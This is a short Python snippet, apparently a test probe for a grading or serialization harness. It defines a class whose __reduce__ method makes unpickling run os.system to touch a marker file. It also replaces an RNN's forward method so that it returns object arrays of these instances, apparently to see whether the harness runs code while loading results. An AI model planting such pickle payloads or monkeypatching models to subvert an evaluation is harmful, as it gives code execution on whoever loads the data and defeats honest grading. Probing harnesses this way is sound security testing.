# tries: to send arrays of objects, of records and of dates, whose elements would run code
# earns: clip, poems
# quick: yes
class Runs:
    def __reduce__(self):
        return os.system, ("touch /tmp/@MARK@",)
def _forward(self, X_batch, h0):
    return np.array([[Runs()] * 7] * 3, dtype=object), np.zeros(3, [("a", "O")]), []
RNN.forward = _forward
def sample(*args, **kwargs):
    return np.array(["2026-01-01"], "M8[D]")
